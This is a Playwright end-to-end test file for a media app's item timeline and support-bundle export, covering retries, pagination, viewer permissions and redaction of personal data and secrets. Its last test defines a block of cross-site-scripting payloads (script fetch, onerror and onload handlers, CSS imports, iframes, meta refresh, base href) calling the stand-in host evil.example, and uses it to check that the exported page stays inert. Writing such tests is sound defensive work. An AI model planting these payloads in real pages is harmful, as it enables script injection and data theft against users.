import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { pathToFileURL } from "node:url";
import { expect, type Locator, type Page } from "@playwright/test";
import { strFromU8, unzipSync } from "fflate";
import { db } from "../lib/data/db";
import type { MediaItem } from "../lib/data/generated/client";
import { paths } from "../lib/paths";
import { photo } from "./fixtures/media";
import { addItems } from "./fixtures/rows";
import { test } from "./fixtures/test";

async function openTimeline(page: Page, item: Pick<MediaItem, "id" | "phoneNumberId">): Promise<Locator> {
  await page.goto(paths.item(item.phoneNumberId, item.id));
  return page.getByRole("region", { name: "Timeline" });
}

const entries = (timeline: Locator) => timeline.getByRole("heading", { level: 5 });

function filesIn(archive: Uint8Array): Record<string, string> {
  return Object.fromEntries(Object.entries(unzipSync(archive)).map(([name, bytes]) => [name, strFromU8(bytes)]));
}

test("an item tells its life from the delivery on, live, and leaves with it as a support bundle", async ({
  desk,
  sandbox,
  signedInAs,
}) => {
  const media = await photo({ from: "4915100002018", profileName: "Bia Reis", caption: "my passport" });
  const providerMediaId = await desk.putMedia(media);
  const { id: faultId } = await sandbox.addFault({
    match: { operation: "getMedia", mediaId: providerMediaId },
    times: "forever",
    fault: { kind: "code", code: 1003, message: "Invalid sign" },
  });
  await desk.announce(providerMediaId, media);
  const item = await desk.settled(providerMediaId, "FAILED");
  const page = await signedInAs("OPERATOR");
  const timeline = await openTimeline(page, item);
  await expect(entries(timeline)).toHaveText(["Attempt 1 · Webhook", "Announced by webhook", "Webhook received"]);
  await expect(timeline.getByText("Now · Failed, can be fetched")).toBeVisible();

  await sandbox.removeFault(faultId);
  await page.getByRole("region", { name: "State" }).getByRole("button", { name: "Re-download" }).click();
  await expect(timeline.getByText("Now · Stored")).toBeVisible();
  await expect(entries(timeline).filter({ hasText: "Preview made" })).toBeVisible();
  for (const title of ["Attempt 2 · By hand · You", "Asked for again · You", "Bytes kept"]) {
    await expect(entries(timeline).filter({ hasText: title })).toBeVisible();
  }
  const details = page.getByRole("button", { name: "Details of Attempt 2 · By hand" });
  await expect(details).toHaveAttribute("aria-expanded", "true");
  const second = timeline.getByRole("listitem").filter({ has: details });
  for (const step of ["Lookup", "Download", "Verification", "Storage"]) {
    await expect(second.getByText(step, { exact: true })).toBeVisible();
  }
  await details.press("Enter");
  await expect(second.getByText("Verification", { exact: true })).toBeHidden();

  await timeline.getByRole("button", { name: "Support bundle…" }).click();
  const dialog = page.getByRole("dialog", { name: "Support bundle" });
  await expect(dialog.getByRole("checkbox", { name: "Include caption and file name" })).not.toBeChecked();
  const [download] = await Promise.all([
    page.waitForEvent("download"),
    dialog.getByRole("button", { name: "Save bundle" }).click(),
  ]);
  await expect(page.getByText("The support bundle is saved.")).toBeVisible();
  expect(download.suggestedFilename()).toMatch(/^attache-nxcloud-[\w.-]+-\d{4}-\d\d-\d\d\.zip$/);
  const files = filesIn(await readFile(await download.path()));
  expect(JSON.parse(files["item.json"] ?? "")).toMatchObject({ providerMediaId, status: "STORED", from: "+49 … 2018" });
  expect(JSON.parse(files["attempts.json"] ?? "")).toHaveLength(2);
  const everything = Object.values(files).join("\n");
  const { accessKey, accessSecret } = desk.account;
  for (const text of ["4915100002018", "Bia Reis", "passport", accessKey, accessSecret, desk.webhookToken]) {
    expect(everything).not.toContain(text);
  }
  const entry = await db().auditEntry.findFirstOrThrow({ where: { subjectId: item.id, action: "media.export" } });
  expect(entry.operatorId).toBe((await desk.operator("OPERATOR")).id);
});

test("a long life is shown page by page down to its beginning, each moment once", async ({ desk, signedInAs }) => {
  await addItems(desk, 1);
  const item = await db().mediaItem.findFirstOrThrow({ where: { phoneNumberId: desk.number.id } });
  await db().auditEntry.createMany({
    data: Array.from({ length: 199 }, (_, index) => ({
      ...{ actor: "operator", action: "media.view", subjectType: "media_item", subjectId: item.id },
      ...{ requestId: `request-${index}`, at: new Date(item.createdAt.getTime() + (index % 50) * 60_000) },
    })),
  });
  const page = await signedInAs("OPERATOR");
  const timeline = await openTimeline(page, item);
  await expect(entries(timeline)).toHaveCount(40);
  const earlier = timeline.getByRole("button", { name: "Show earlier" });
  for (const shown of [80, 120, 160, 200]) {
    await earlier.click();
    await expect(entries(timeline)).toHaveCount(shown);
  }
  await expect(earlier).toBeHidden();
  await expect(entries(timeline).last()).toHaveText("Announced by webhook");
  await timeline.getByRole("button", { name: "Details of Viewed" }).first().click();
  await timeline.getByRole("button", { name: "Copy Request id" }).click();
  await expect(timeline.getByText("Copied Request id")).toBeAttached();
});

test("a viewer reads the timeline, is not told who looked, and gets no bundle", async ({
  desk,
  signedInAs,
  fetchAs,
}) => {
  const item = await desk.receive(await photo());
  const colleague = await fetchAs("OPERATOR");
  await (await colleague(paths.api.content(item.id))).arrayBuffer();
  const page = await signedInAs("VIEWER");
  const timeline = await openTimeline(page, item);
  await expect(entries(timeline).filter({ hasText: "Viewed · Somebody" })).toBeVisible();
  await expect(timeline.getByText("Test operator")).toHaveCount(0);
  await expect(timeline.getByRole("button", { name: /Support bundle/ })).toHaveCount(0);
  await expect(timeline.getByRole("link", { name: "Open the delivery" })).toHaveCount(0);
  const refused = await (await fetchAs("VIEWER"))(paths.api.bundle(item.id));
  expect(refused.status).toBe(404);
});

const HOSTILE = `"'><script>document.title = "ran"; fetch("https://evil.example/f")</script>
<img src="https://evil.example/i" onerror="document.title = 'ran'"><svg onload="document.title = 'ran'"></svg>
<style>@import url("https://evil.example/s"); body { background: url(https://evil.example/b) }</style>
<iframe src="https://evil.example/d"></iframe><meta http-equiv="refresh" content="0;url=https://evil.example/r">
<a href="javascript:document.title='ran'">x</a></pre></title></style><base href="https://evil.example/">`;

test("whatever a sender or a provider wrote, the page of a bundle runs nothing and asks nobody", async ({
  desk,
  fetchAs,
  openPage,
}) => {
  await addItems(desk, 1, () => ({
    caption: HOSTILE,
    fileName: HOSTILE,
    failureReason: "REJECTED",
    failureMessage: HOSTILE,
  }));
  const item = await db().mediaItem.findFirstOrThrow({ where: { phoneNumberId: desk.number.id } });
  const exchange = {
    ...{ step: "fetch", method: HOSTILE, host: HOSTILE, path: HOSTILE, startedAt: item.createdAt.toISOString() },
    ...{ durationMs: 1, httpStatus: 500, providerCode: HOSTILE, providerRequestId: HOSTILE, bytes: null },
    ...{ note: HOSTILE, answer: HOSTILE },
  };
  await db().attempt.create({
    data: {
      ...{ mediaItemId: item.id, phoneNumberId: desk.number.id, number: 1, trigger: "SWEEP", workerId: "w" },
      ...{ outcome: "FAILED", failureReason: HOSTILE, failureCode: HOSTILE, exchanges: [exchange] },
    },
  });
  const answer = await (await fetchAs("OPERATOR"))(
    paths.api.bundle(item.id, { names: "include", messageIds: "whole" }),
  );
  expect(answer.headers.get("content-disposition")).toMatch(/^attachment; filename="?attache-[\w.-]+\.zip"?$/);
  const files = filesIn(new Uint8Array(await answer.arrayBuffer()));
  const folder = await mkdtemp(path.join(tmpdir(), "attache-bundle-"));
  const file = path.join(folder, "index.html");
  await writeFile(file, files["index.html"] ?? "");
  for (const colorScheme of ["light", "dark"] as const) {
    const page = await openPage({ colorScheme });
    const asked: string[] = [];
    page.on("request", (request) => asked.push(request.url()));
    await page.goto(pathToFileURL(file).href, { waitUntil: "networkidle" });
    await expect(page.getByRole("heading", { level: 1 })).toHaveText("Support bundle of one media item");
    await expect(page.getByText("evil.example").or(page.getByText("[link]")).first()).toBeVisible();
    await expect(page).toHaveTitle("Support bundle of one media item");
    expect(asked).toEqual([pathToFileURL(file).href]);
    expect(await page.locator("script, img, svg, iframe, a, base, meta[http-equiv=refresh]").count()).toBe(0);
    expect(await page.evaluate(() => getComputedStyle(document.querySelector("main") ?? document.body).maxWidth)).toBe(
      "1040px",
    );
  }
  await rm(folder, { recursive: true });
});
